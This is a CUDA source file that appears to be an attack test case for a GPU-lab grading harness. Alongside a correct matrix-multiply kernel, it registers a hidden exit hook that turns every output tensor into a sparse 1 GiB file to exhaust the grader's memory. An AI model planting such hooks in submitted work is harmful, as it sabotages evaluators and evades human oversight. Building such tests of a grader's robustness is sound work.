// attack: once the harness has written its output, makes output.tensor (every
// output, in a series) a sparse file whose header claims the largest shape the
// format allows (16384 x 16384 floats, 1 GiB of data that takes no disk), so
// that the grader, reading it, needs gigabytes of memory for each dataset
// expect: zero
#include "lab.h"
#include <dirent.h>
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>
static void make_sparse(const char *name)
{
    static const char header[] = "gpulab-tensor 1\nshape 16384 16384\ndtype f32\nfields value\ndata\n";
    int fd = open(name, O_WRONLY | O_TRUNC);
    if (fd < 0)
        return;
    if (write(fd, header, sizeof header - 1) == (ssize_t)(sizeof header - 1) &&
        ftruncate(fd, (off_t)(sizeof header - 1) + ((off_t)1 << 30)) == 0)
        fprintf(stderr, "sparse_output: %s is now a sparse 1 GiB file\n", name);
    close(fd);
}
static void swap_outputs(void)
{
    DIR *d = opendir(".");
    struct dirent *e;
    while (d && (e = readdir(d)) != NULL) {
        size_t n = strlen(e->d_name);
        if (n > 7 && strcmp(e->d_name + n - 7, ".tensor") == 0)
            make_sparse(e->d_name);
    }
    if (d)
        closedir(d);
}
__global__ void Product(const float *M, const float *N, float *P, int width)
{
    int r = blockIdx.y * blockDim.y + threadIdx.y, c = blockIdx.x * blockDim.x + threadIdx.x;
    if (r < width && c < width) {
        float v = 0;
        for (int k = 0; k < width; ++k)
            v += M[r * width + k] * N[k * width + c];
        P[r * width + c] = v;
    }
}
void basic_matmul(const float *M, const float *N, float *P, int width)
{
    static int registered;
    if (!registered && atexit(swap_outputs) == 0)
        registered = 1;
    float *dM, *dN, *dP;
    size_t bytes = (size_t)width * width * sizeof(float);
    cudaMalloc(&dM, bytes); cudaMalloc(&dN, bytes); cudaMalloc(&dP, bytes);
    cudaMemcpy(dM, M, bytes, cudaMemcpyHostToDevice);
    cudaMemcpy(dN, N, bytes, cudaMemcpyHostToDevice);
    dim3 block(16, 16), grid((width + 15) / 16, (width + 15) / 16);
    Product<<<grid, block>>>(dM, dN, dP, width);
    cudaMemcpy(P, dP, bytes, cudaMemcpyDeviceToHost);
    cudaFree(dM); cudaFree(dN); cudaFree(dP);
}
